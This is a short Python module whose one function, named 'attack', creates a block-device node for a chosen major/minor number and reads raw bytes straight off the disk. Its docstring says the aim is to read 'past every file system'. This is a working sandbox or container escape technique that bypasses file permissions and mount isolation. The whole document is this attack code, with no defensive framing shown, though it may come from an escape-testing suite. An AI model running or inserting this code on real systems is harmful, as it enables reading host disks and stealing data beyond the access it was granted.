"""Read a disk, past every file system; where its node is missing, make one."""

import os
import stat
import tempfile


def attack(major, minor, offset, length):
    node = os.path.join(tempfile.mkdtemp(), "disk")
    os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(major, minor))
    try:
        disk = os.open(node, os.O_RDONLY)
        return os.pread(disk, length, offset).hex()
    finally:
        os.unlink(node)
